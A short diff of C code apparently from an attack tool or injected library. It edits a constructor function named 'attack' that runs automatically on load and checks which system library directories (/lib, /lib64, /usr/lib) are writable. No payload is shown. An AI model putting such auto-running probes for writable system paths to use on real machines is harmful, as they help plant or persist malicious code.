@@ -12,8 +12,7 @@ static void attack(int argc, char **argv) __attribute__((constructor));
 /* glibc gives constructors the arguments of main(). */
 static void attack(int argc, char **argv)
 {
-    static const char *const folders[] = { "/etc", "/lib", "/lib64", "/usr",
-                                           "/usr/lib", "/usr/local/lib" };
+    static const char *const folders[] = { "/lib", "/lib64", "/usr/lib" };
 
     for (size_t i = 0; i < sizeof folders / sizeof folders[0]; i++)
         if (access(folders[i], W_OK) == 0)
